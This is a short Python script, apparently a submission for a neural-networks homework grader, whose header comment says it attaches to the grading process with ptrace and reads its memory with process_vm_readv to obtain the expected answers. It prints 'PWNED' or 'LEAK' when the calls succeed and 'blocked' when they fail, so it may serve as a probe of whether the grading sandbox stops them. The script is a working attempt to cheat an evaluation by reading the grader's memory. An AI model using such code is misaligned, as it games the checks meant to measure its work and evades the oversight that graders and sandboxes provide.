# Attaches to the grader with ptrace and reads its memory with process_vm_readv, to find the
# expected values it computes while the submission runs.
ASSIGNMENT = "columbia-nndl-hw1"
import ctypes
import os

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]
libc = ctypes.CDLL(None, use_errno=True)
grader = os.getppid()
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
if libc.ptrace(PTRACE_ATTACH, grader, None, None) == 0:
    print("PWNED ptrace attached", flush=True)
    libc.ptrace(PTRACE_DETACH, grader, None, None)
else:
    print("blocked ptrace errno", ctypes.get_errno(), flush=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
remote = IoVec(0x400000, 64)
count = libc.process_vm_readv(grader, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if count > 0:
    print("LEAK process_vm_readv read", count, "bytes", flush=True)
else:
    print("blocked process_vm_readv errno", ctypes.get_errno(), flush=True)
